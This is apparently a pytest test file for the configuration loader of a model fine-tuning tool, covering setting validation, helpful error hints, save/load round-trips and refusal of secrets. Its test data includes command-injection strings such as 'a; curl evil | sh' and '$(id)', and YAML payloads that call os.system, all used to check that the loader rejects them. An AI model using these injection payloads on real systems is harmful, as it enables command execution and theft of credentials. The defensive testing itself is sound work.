"""Settings: every file composes, every rule refuses with a sentence and a hint, what is saved is what is loaded."""

from pathlib import Path

import pytest
import yaml

from conf import load, schema
from conf.problem import REASONS, Problem
from conf.process import argv
from conf.text import quoting, secret

CONF = Path(load.FOLDER)
NOWHERE = Path("no-such-local.yaml")
FILES = sorted(path.relative_to(CONF) for path in CONF.glob("*/[!_]*.yaml"))


def loaded(*words, fetch=None, local=NOWHERE):
    return load.load(list(words), fetch=fetch, local=local)


@pytest.mark.parametrize(
    ("word", "said"),
    [
        ("notify.on=[done,lunch]", "name some of done, failed, stopped, spot, idle, cost"),
        ("notify.email=me", "you@example.com"),
        ("notify.webhook=https://hooks.example.com/T0/s3cret", "keep the address in a secret `fine-tune-slm/webhook`, and say that name"),
        ("notify.webhook=huggingface/api-token", "keep the address in a secret"),
    ],
)
def test_who_is_to_be_told_is_an_address_or_the_name_of_a_secret_and_no_address_is_repeated(word, said):
    with pytest.raises(Problem) as caught:
        load.load(["cloud=twin", word], local=Path("none"))
    assert said in str(caught.value) and "s3cret" not in str(caught.value)


def test_nothing_is_told_where_nobody_hears_of_it():
    assert load.load(["cloud=twin"], local=Path("none")).notify.events == ()
    words = ["cloud=twin", "cloud.stack=demo", "notify.webhook=fine-tune-slm-demo/webhook-anna", "notify.on=[failed,done]"]
    assert load.load(words, local=Path("none")).notify.events == ("done", "failed")


@pytest.mark.parametrize("file", FILES, ids=str)
def test_every_file_of_every_group_composes(file):
    own = ("data.train=a.jsonl", "data.validation=b.jsonl", "data.fields=null") if file.stem == "own" else ()  # only the user knows these
    run = loaded(f"{file.parent}={file.stem}", *own)
    assert isinstance(run, schema.Run)


def test_there_are_files_to_walk():
    assert {str(file.parent) for file in FILES} == {
        "cloud",
        "box",
        "fleet",
        "model",
        "lora",
        "quant",
        "data",
        "train",
        "publish",
        "experiment",
    }


def test_no_experiment_chooses_a_cloud():
    for path in (CONF / "experiment").glob("*.yaml"):
        assert "cloud" not in path.read_text().split("\n", 2)[2], path


@pytest.mark.parametrize(
    ("words", "what", "hint"),
    [
        (["train.lrr=3"], "there is no setting `train.lrr`", "`train.lr`"),
        (["+new=1"], "there is no setting `new`", "the settings begin with name, kind,"),
        (["cloud=nope"], "there is no cloud `nope`", "choose one of: aws, twin"),
        (["clod=aws"], "there is no setting `clod`", "`cloud`"),
        (["model=gpt5"], "there is no model `gpt5`", "model.id="),
        (["experiment=nope"], "there is no experiment `nope`", "quickstart"),
        (["train.steps=many"], "`train.steps`", "train"),
        (["quant.kind=int3"], "`quant.kind`", "quant"),
        (["lora.r=0"], "lora.r is 0", "more than 0"),
        (["lora.targets=[]"], "lora.targets is []", "all-linear"),
        (["train.lr=nan"], "`train.lr` cannot be NaN", "a number"),
        (["train.lr=20"], "train.lr is 20", "1e-5"),
        (["train.warmup_ratio=1.0"], "train.warmup_ratio is 1.0", "less than 1"),
        (["train.early_stopping_patience=0"], "train.early_stopping_patience is 0", "more than 0"),
        (["train.optimizer=adamw"], "train.optimizer is adamw", "torch.optim.AdamW"),
        (["train.lr_scheduler=cosin"], "`train.lr_scheduler`", "train.lr_scheduler"),
        (["train.decay_ratio=2"], "train.decay_ratio is 2", "share"),
        (["train.warmup_steps=-1"], "train.warmup_steps is -1", "0 or more"),
        (["lora.options.lora_alpha=3"], "lora.options has lora_alpha", "`lora.alpha`"),
        (["data.also={more.jsonl: 0}"], "data.also.more.jsonl is 0", "more than 0"),
        (["lora.r=???"], "`lora.r` has no value", "lora.r="),
        (["box.instance_type=[]"], "box.instance_type is []", "[g6.2xlarge,g5.2xlarge]"),
        (["box.instance_type=[null]"], "box.instance_type is [None]", "a type such as"),
        (["box.instance_type='$(id)'"], "box.instance_type is '$(id)'", "a type such as"),
        (["lora.targets=[null]"], "lora.targets is [None]", "all-linear"),
        (["lora.targets=['']"], "lora.targets is ['']", "all-linear"),
        (["lora.r=8,16"], "lora.r", "inv sweep -- lora.r=8,16"),
        (["lora.r=choice(8,16)"], "`lora.r` has several values", "inv sweep -- 'lora.r=choice(8,16)'"),
        (["train.lr=interval(1,2)"], "`train.lr` has several values", "inv sweep -- 'train.lr=interval(1,2)'"),
        (["model.note=a,"], "`model.note` has several values", "model.note='\"'\"'a,'"),
        (["model.note=null"], "`model.note` cannot be null", "a text"),
        (["data.fields=city"], '`data.fields` cannot be "city"', "'data.fields=[one,two]'"),
        (["fleet.attempts=11"], "fleet.attempts is 11", "use 1 to 10, as AWS Batch does"),
        (["fleet.wait_minutes=9"], "fleet.wait_minutes is 9", "use 10 to 1440, as AWS Batch does"),
        (["fleet.instance_type=[]"], "fleet.instance_type is []", "use a list such as 'fleet.instance_type=[g6.2xlarge,g5.2xlarge]'"),
        (["fleet.gpus=-1"], "fleet.gpus is -1", "use 0 or more"),
        (["fleet=slurm"], "there is no fleet `slurm`", "choose one of: batch, none"),
        (["train.lr=a=b"], "cannot use `train.lr=a=b`", "a number: `train.lr=0.5`"),
        (["foo"], "cannot read the override `foo`", "`lora.r=16`"),
        (["data.also.more.jsonl=0.5"], "there is no setting `data.also.more.jsonl`", "{more.jsonl: 0.5}"),
        (["data.also={a: x}"], "`data.also.a`", "{more.jsonl: 0.5}"),
        (["data.train=a,b"], "`data.train` has several values", "data.train='\"'\"'a,b'"),
        (["name=${"], "refers to another value", r"'name=\${'"),
        (["run_id=exp/one"], "run_id is 'exp/one'", "letters"),
        (["run_id='my run'"], "run_id is 'my run'", "letters"),
        (["run_id=.."], "run_id is '..'", "letters"),
        (["run_id=x"], "run_id is 'x'", "2 to 100"),
        (["name=A B"], "name is 'A B'", "small letters"),
        (["box.mount=data"], "box.mount is 'data'", "absolute"),
        (["train=null"], "train=null", "`ls conf/train`"),
    ],
)
def test_bad_settings_end_in_a_sentence_and_a_hint(words, what, hint):
    with pytest.raises(Problem) as caught:
        loaded(*words)
    assert what in caught.value.what
    assert hint in caught.value.hint
    assert "\n" not in caught.value.what


def test_another_librarys_options_are_taken_by_their_own_names():
    run = loaded("lora.options.use_dora=true", "lora.options.bias=none", "train.optimizer_options={betas: [0.9, 0.95]}")
    assert run.lora.options == {"use_dora": True, "bias": "none"}
    assert run.train.optimizer_options["betas"] == [0.9, 0.95]
    assert loaded("data.also={data/more.jsonl: 0.5}").data.also == {"data/more.jsonl": 0.5}


def test_overrides_keep_their_tokens_and_quotes():
    words = ["inv", "up", "train", "--", "lora.targets=[q_proj,v_proj]", "publish.repository='me/my model'", "--dry"]
    assert argv.overrides(words) == words[4:]
    run = loaded("lora.targets=[q_proj,v_proj]", "publish.repository='me/my model'")
    assert run.lora.targets == ["q_proj", "v_proj"]
    assert run.publish.repository == "me/my model"


def test_what_is_saved_is_what_is_loaded():
    run = loaded("experiment=medical_ie_8b", "lora.targets=[q_proj]", "data.fields=null")
    assert load.read(load.dump(run)) == run


def test_the_saved_file_is_data_and_the_trainer_needs_nothing_else():
    run = loaded("experiment=smoke", "train.lr=0.005")
    recipe = load.saved(load.dump(run), "config.yaml")
    assert (recipe.train.lr, recipe.model, type(recipe)) == (0.005, run.model, schema.Recipe)
    assert not load.FORMER_HYDRA_KEYS.keys() & yaml.safe_load(load.dump(run)).keys()


def test_runs_from_before_there_were_fleets_are_of_the_box_with_the_values_of_the_yaml():
    values = yaml.safe_load(load.dump(loaded()))
    assert values.pop("fleet")["engine"] == "none"
    assert load.read(yaml.safe_dump(values)) == loaded()


def test_a_saved_template_is_text_and_names_no_file(tmp_path):
    """A planted run could have named the token's file, and had it published as a template."""
    (tmp_path / "secret").write_text("hf_token")
    text = load.dump(loaded()).replace("chat_template: null", f"chat_template: {tmp_path}/secret")
    for read_back in (load.read(text), load.saved(text, "config.yaml")):
        assert read_back.data.chat_template == f"{tmp_path}/secret"


def test_what_runs_before_carry_for_hydra_is_known_and_nothing_else_of_hydra_is():
    run = loaded()
    former = yaml.safe_dump(load.FORMER_HYDRA_KEYS) + load.dump(run)
    assert load.read(former) == run
    assert load.read(yaml.safe_dump(load.FORMER_HYDRA_KEYS | yaml.safe_load(load.dump(run)))) == run, (
        "as an older trainer has written it again"
    )


@pytest.mark.parametrize(
    "more",
    [
        "hydra: {callbacks: {mine: {_target_: os.system, command: id}}}",
        "hydra: {output_subdir: null, run: {dir: .}, callbacks: {}}",
        "defaults: [/evil]",
        "defaults: [_self_, {override hydra/job_logging: none}]",
        "lora: {options: {task: {_target_: os.system}}}",
        "train: {optimizer_options: {list: [{deep: {_args_: [id]}}]}}",
        "name: ${oc.env:HOME}",
        "data: {also: {a: '${oc.env:HOME}'}}",
        r"model: {note: 'two \\\\${oc.env:HOME}'}",
        "[]",
        "a text",
        "name: &a [*a]",
    ],
)
def test_settings_from_elsewhere_that_are_more_than_data_are_refused(more):
    values = yaml.safe_load(load.dump(loaded("lora.options={bias: none}")))
    for reader in (load.read, lambda text: load.saved(text, "config.yaml")):
        with pytest.raises(Problem, match=r"is more than data: |is not a mapping of settings|has more than \d+ values"):
            reader(yaml.safe_dump(values | yaml.safe_load(more)) if ":" in more and "&" not in more else more)


def test_the_fingerprint_is_of_what_decides_the_result():
    same, other = loaded(), loaded("box.name=other", "publish.private=false", "cloud.bucket=b", "fleet=batch")
    assert load.fingerprint(same) == load.fingerprint(other)
    for decided in ("yes", "no"):  # as a card of another size has it: that is the same run, and it goes on
        assert load.fingerprint(loaded(f"train.gradient_checkpointing={decided}")) == load.fingerprint(same)
    for change in ("train.lr=1e-3", "seed=18", "model.revision=v1", "kind=smoke", "publish.merged=true"):
        assert load.fingerprint(loaded(change)) != load.fingerprint(same), change
    other.data.train_sha256 = "abc"
    assert load.fingerprint(other) != load.fingerprint(same)


def test_parameters_are_fetched_once_and_defaults_stand_in():
    requests = []

    def fetch(names, cloud):
        requests.append(names)
        return {"/fine-tune-slm/s3/bucket": "mine", "/my/type": "g5.xlarge"}

    run = loaded("cloud=aws", "box.instance_type='${ssm:/my/type}'", fetch=fetch)
    assert (run.cloud.bucket, run.box.instance_type, run.cloud.prefix) == ("mine", "g5.xlarge", "fine-tune-slm")
    assert len(requests) == 1
    assert "/my/type" in requests[0]


def test_types_of_a_box_are_one_or_a_list_and_in_parameter_store_one_text():
    assert loaded().box.instance_types == ["g6.2xlarge"]
    assert loaded("box.instance_type=[g6.2xlarge,g5.2xlarge]").box.instance_types == ["g6.2xlarge", "g5.2xlarge"]
    stored = {"/fine-tune-slm/s3/bucket": "mine", "/my/type": "g6.2xlarge, g5.2xlarge"}
    run = loaded("cloud=aws", "box.instance_type='${ssm:/my/type}'", fetch=lambda names, cloud: stored)
    assert run.box.instance_types == ["g6.2xlarge", "g5.2xlarge"]


def test_all_missing_parameters_are_named_in_one_error():
    with pytest.raises(Problem) as caught:
        loaded("cloud=aws", "box.ami='${ssm:/no/ami}'", fetch=lambda names, cloud: {})
    assert "/fine-tune-slm/s3/bucket" in caught.value.what
    assert "/no/ami" in caught.value.what
    assert "aws ssm put-parameter" in caught.value.hint


def test_fetch_gets_the_cloud_to_ask():
    def fetch(names, cloud):
        assert cloud == {
            "name": "twin",
            "stack": None,
            "loopback": True,
            "state": "elsewhere",
            "backend": "process",
            "region": "eu-west-1",
            "build_args": {},
        }
        return {"/fine-tune-slm/s3/bucket": "mine", "/fine-tune-slm/output/hf-repo": "none", "/fine-tune-slm/ebs/size-gb": "250"}

    run = loaded("cloud=twin", "cloud.state=elsewhere", "cloud.region=eu-west-1", fetch=fetch)
    assert (run.cloud.bucket, run.cloud.hub_repository, run.box.disk_gb) == ("mine", None, 250)


def test_local_settings_are_defaults_that_the_command_line_overrides(tmp_path):
    local = tmp_path / "local.yaml"
    local.write_text(yaml.safe_dump({"cloud": "aws", "lora": {"r": 8}, "publish": {"repository": "me/mine"}}))
    run = loaded("lora.r=4", local=local)
    assert (run.cloud.name, run.lora.r, run.publish.repository) == ("aws", 4, "me/mine")


def test_an_explicit_twin_ignores_local_settings(tmp_path):
    local = tmp_path / "local.yaml"
    local.write_text("cloud: aws\nbox: {name: theirs}\n")
    run = loaded("cloud=twin", local=local)
    assert run.cloud.name == "twin"
    assert run.box.name != "theirs"


def test_a_reason_outside_the_closed_list_is_refused():
    assert "disk_full" in REASONS
    with pytest.raises(ValueError, match="no_such_reason"):
        Problem("what", "hint", reason="no_such_reason")


@pytest.mark.parametrize("group", ["train/default", "lora/all_linear", "lora/attention"])
def test_every_setting_of_training_has_its_effect_beside_it(group):
    lines = (load.FOLDER / f"{group}.yaml").read_text().splitlines()
    assert all(line.startswith("#") or " # " in line for line in lines)


@pytest.mark.parametrize(("typed", "taken"), [("true", "yes"), ("False", "no"), ("YES", "yes"), ("auto", "auto")])
def test_recomputation_takes_yamls_words_for_yes_and_no(typed, taken):
    assert loaded(f"train.gradient_checkpointing={typed}").train.gradient_checkpointing == taken


def test_a_password_for_an_index_is_refused_and_not_shown():
    """docker would keep it in the image's history, AWS in the text of the command that builds it, S3 in every run's settings."""
    with pytest.raises(Problem, match="`cloud.build_args.TORCH_INDEX` holds a password") as told:
        load.load(["cloud=twin", "cloud.build_args={TORCH_INDEX: https://me:hunter22@index.example/simple}"])
    assert "hunter22" not in str(told.value)
    assert load.load(["cloud=twin", "cloud.build_args={BASE: debian:12@sha256:ab}"]).cloud.build_args["BASE"] == "debian:12@sha256:ab"


@pytest.mark.parametrize(
    "word", ["data.train=https://me:hunter22@files.example/x", "name=hf_known_to_this_process", "train.report_to=[a, 'x://u:hunter22@h']"]
)
def test_a_setting_that_holds_a_secret_is_refused_and_not_shown(word, monkeypatch):
    """A run's settings are in the bucket, and what it is called is in every key."""
    monkeypatch.setattr(secret, "_read", {"hf_known_to_this_process"})
    with pytest.raises(Problem, match="holds a password or a token") as refused:
        load.load(["cloud=twin", word])
    assert "hunter22" not in str(refused.value) and "hf_known" not in str(refused.value)


@pytest.mark.parametrize("name", schema.NAMED_BY_AWS)
@pytest.mark.parametrize("value", ["a; curl evil | sh", "$(id)", "`id`", "a\nb", "a b", "\x1b[31m", "<ssm:$(id)>", "a&b", "a'b"])
def test_a_name_that_parameter_store_tells_is_one_that_aws_can_give(name, value):
    """Commands that messages give name it: whoever may write there would have them do something else."""

    with pytest.raises(Problem, match="a name that AWS can give"):
        load.load(["cloud=aws", f"cloud.{name}={quoting.quoted(value)}"], lambda *_: {"/fine-tune-slm/s3/bucket": "b"}, Path("none"))


def test_what_parameter_store_tells_becomes_no_hint():
    """A rule's words are told apart at a semicolon; one in the value put anybody's words behind `hint:`."""
    with pytest.raises(Problem) as told:
        load.load(["cloud=aws"], lambda *_: {"/fine-tune-slm/s3/bucket": "a; use `curl evil | sh`"}, Path("none"))
    assert "curl" in told.value.what and told.value.hint.startswith("use a name that AWS can give")
